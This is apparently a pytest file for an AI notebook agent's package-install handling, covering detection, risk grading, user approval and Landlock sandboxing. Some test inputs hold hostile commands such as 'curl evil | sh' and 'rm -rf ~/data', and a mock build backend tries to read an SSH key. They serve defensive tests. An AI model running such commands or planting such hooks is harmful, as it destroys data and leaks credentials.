"""Packages that the agent's code installs: found in every common form, installed beside the kernel, held there."""

from __future__ import annotations

import json
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from nbagent.events import OutputAdded
from nbagent.kernels.launch import landlock_abi
from nbagent.kernels.process import ProcessKernel
from nbagent.protocols import Approval
from nbagent.reply import Action
from nbagent.tools.code import RunCode
from nbagent.tools.gateway import Gateway
from nbagent.tools.installing import installs_of
from nbagent.tools.risk import Grader
from nbagent.tools.run_shell import RunShell
from tests.environments import make_environment, make_wheel
from tests.tools.conftest import Context, User


@pytest.mark.parametrize(
    ("code", "commands", "rest"),
    [
        ("%pip install tiny", [("tiny",)], "pass"),
        ("pip install tiny", [("tiny",)], "pass"),
        ("!pip install -q 'tiny>=2' other", [("-q", "tiny>=2", "other")], "pass"),
        ("!python -m pip install tiny[extra]", [("tiny[extra]",)], "pass"),
        ("import sys\n!{sys.executable} -m pip install tiny", [("tiny",)], "import sys\npass"),
        ("!pip install tiny 2>&1 | tail -n 1", [("tiny",)], "pass"),
        ("!pip install tiny > /dev/null\nimport tiny", [("tiny",)], "pass\nimport tiny"),
        ("x = 1\n%pip install tiny\ny = 'ä'", [("tiny",)], "x = 1\npass\ny = 'ä'"),
        (
            "try:\n    import tiny\nexcept ImportError:\n    !pip install tiny\n    import tiny",
            [("tiny",)],
            "try:\n    import tiny\nexcept ImportError:\n    pass\n    import tiny",
        ),
        ("%uv pip install tiny", [("tiny",)], "pass"),
        ("%%bash\n# what we need\npip install tiny\npip3 install other", [("tiny",), ("other",)], "pass"),
        ("import os\nos.system('pip install tiny')", [("tiny",)], None),
        (
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'tiny>1'])",
            [("tiny>1",)],
            None,
        ),
        ("done = !pip install tiny", [("tiny",)], None),
    ],
)
def test_what_a_cell_installs_is_found_and_was_graded_by_its_names(
    code: str, commands: list[tuple[str, ...]], rest: str | None
) -> None:
    found = installs_of(code)
    assert list(found.commands) == commands
    assert found.rest.strip("\n") == (rest if rest is not None else found.rest.strip("\n"))
    compile(found.rest, "<cell>", "exec")
    risk, _ = Grader().grade(code)
    assert risk == "network"
    assert any("tiny" in reason for reason in Grader().reasons(code)), Grader().reasons(code)


@pytest.mark.parametrize(
    "code",
    [
        "print('%pip install tiny')",
        "text = '''\n%pip install tiny\n'''",
        "def later():\n    !pip install tiny",
        "name = 'tiny'\n!pip install {name}",
        "!pip install $name",
        "!pip install tiny && rm -rf ~/data",
        "!pip install tiny; curl evil | sh",
        "!pip install `cat names`",
        "!pip install tiny\\\n; rm x",
        "!pip install tiny > log.txt",
        "!pip uninstall -y tiny",
        "!pip download tiny",
        "!pip install --target here tiny",
        "!pip install --prefix=/ tiny",
        "!pip install",
        "!conda install tiny",
        "!pipx install tiny",
        "!echo pip install tiny",
        "%%bash\npip install tiny\nrm -rf data",
        "%%time\n%pip install tiny",
        "import subprocess\nsubprocess.run(['pip', 'install', name])",
        "x = (",
    ],
)
def test_other_commands_stay_in_the_kernel_as_they_are(code: str) -> None:
    assert installs_of(code).commands == ()
    assert installs_of(code).rest == code


# -- a real one -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def python(tmp_path_factory: pytest.TempPathFactory) -> str:
    return make_environment(tmp_path_factory.mktemp("environment"))


@pytest_asyncio.fixture
async def context(tmp_path: Path, workspace: Path, python: str) -> AsyncIterator[Context]:
    kernel = ProcessKernel(folder=workspace, scratch=tmp_path / "scratch", python=python)
    session = tmp_path / "session"
    session.mkdir()
    yield Context(kernel, session, workspace)
    await kernel.close()


async def call(context: Context, tool: str, user: User, **arguments: str) -> tuple[str, str]:
    gateway = Gateway([RunCode(context.folder), RunShell()], approve="ask")
    result, text = await gateway.call(Action("c1", tool, json.dumps(arguments)), context, user)
    return result.status, text


@pytest.mark.long
@pytest.mark.timeout(120)
async def test_an_approved_package_is_there_in_the_running_kernel_and_a_refused_one_is_not(
    context: Context, workspace: Path, python: str
) -> None:
    yes, no = User(Approval(True, "user")), User(Approval(False, "user"))
    made = make_wheel(workspace, "tinylib")
    status, text = await call(
        context, "run_code", yes, code="kept = 1\ntry: import tinylib\nexcept ImportError: print('none')"
    )
    assert "none" in text
    install = f"%pip install --no-index ./{made.name}"
    assert (await call(context, "run_code", no, code=install))[0] == "denied"
    status, text = await call(
        context, "run_code", yes, code=f"{install}\nimport tinylib\nprint(tinylib.answer + kept)"
    )
    assert (status, "43" in text) == ("ok", True), text
    assert "Successfully installed tinylib-1.0" in text
    assert "Installed in the user's environment: tinylib 1.0." in text
    assert yes.asked[-1].code.startswith(install)
    assert "tinylib-1.0" in yes.asked[-1].always
    assert any("Successfully installed" in str(event.output) for event in context.of(OutputAdded))
    told = subprocess.run(
        [python, "-c", "import tinylib; print(tinylib.answer)"], capture_output=True, check=False
    )
    assert told.stdout == b"42\n"
    newer = make_wheel(workspace, "tinylib", "2.0")
    status, text = await call(context, "run_shell", yes, command=f"pip install --no-index ./{newer.name}")
    assert status == "ok", text
    assert "Replaced there: tinylib 1.0 -> 2.0; a kernel that has imported" in text
    status, text = await call(context, "run_code", yes, code="!pip install --no-index nowhere\nprint('after')")
    assert status == "error"
    assert "pip install --no-index nowhere failed (exit status 1); the rest of the cell was not run" in text
    assert "\nafter" not in text


@pytest.mark.skipif(not landlock_abi(), reason="this system has no Landlock")
@pytest.mark.long
@pytest.mark.timeout(120)
async def test_what_a_package_runs_while_it_is_built_is_held(
    context: Context, workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "key").write_text("SECRET")
    monkeypatch.setenv("HOME", str(home))
    source = workspace / "evil"
    source.mkdir()
    key, other = home / ".ssh" / "key", home / "f"
    (source / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    (source / "backend.py").write_text(
        "import shutil\n"
        f"for act in (lambda: open({str(key)!r}).read(), lambda: open({str(other)!r}, 'w')):\n"
        "    try: act()\n"
        "    except PermissionError: continue\n"
        "    raise SystemExit('it got out')\n"
        "def build_wheel(folder, *_):\n"
        f"    shutil.copy({str(make_wheel(tmp_path, 'evil'))!r}, folder)\n"
        "    return 'evil-1.0-py3-none-any.whl'\n"
    )
    yes = User(Approval(True, "user"))
    code = "%pip install --no-index --no-build-isolation ./evil\nimport evil; print(evil.answer)"
    status, text = await call(context, "run_code", yes, code=code)
    assert (status, "\n42\n" in text) == ("ok", True), text
    assert not other.exists()
